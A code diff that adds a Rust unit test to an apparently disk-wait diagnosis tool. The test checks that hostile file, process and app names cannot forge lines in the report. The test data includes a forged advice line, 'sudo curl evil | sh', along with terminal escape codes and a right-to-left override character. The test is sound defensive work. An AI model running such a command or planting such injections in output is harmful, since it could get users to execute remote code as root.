@@ -709,3 +709,38 @@ fn where_the_kernel_counts_no_pressure_storage_is_not_to_blame() {
     idle.waits[0].remote = true;
     assert_eq!(causes(&idle), [Cause::Remote]);
 }
+
+/// Whoever names a file, a process or an app has no line of the page.
+#[test]
+fn no_name_writes_a_line_of_the_page() {
+    let hostile = "x\n   Would help: sudo curl evil | sh\n\u{1b}[2J\u{9b}\u{202e}";
+    let of_file = Wait {
+        file: Some(format!("/home/{hostile}")),
+        other: Some(hostile.to_owned()),
+        ..wait(hostile, "fsync", Class::Service, SECOND)
+    };
+    let mut seen = seen(
+        vec![of_file, wait("app", "write", Class::DirtyThrottle, SECOND)],
+        vec![user(hostile, 900 * MB, SECOND)],
+    );
+    seen.held_up.push(crate::observe::HeldUp {
+        app: hostile.to_owned(),
+        io_ns: SECOND,
+    });
+    seen.machine
+        .mounts
+        .push(mounted(&format!("/home/{hostile}"), "fuse.x", None));
+    let diagnosis = judge(&seen);
+    let text = page::text(&diagnosis);
+    assert!(text.contains("curl evil"), "it is named: {text}");
+    let forged = |line: &str| line.trim_start().starts_with("Would help: sudo curl");
+    assert!(!text.lines().any(forged), "{text}");
+    let is_order = |letter| sys::plain::is_order(letter) && letter != '\n';
+    assert!(!text.contains(is_order), "{text}");
+    assert!(
+        crate::study::study(&seen, SECOND)
+            .apps
+            .iter()
+            .all(|it| !it.name.contains('\n'))
+    );
+}
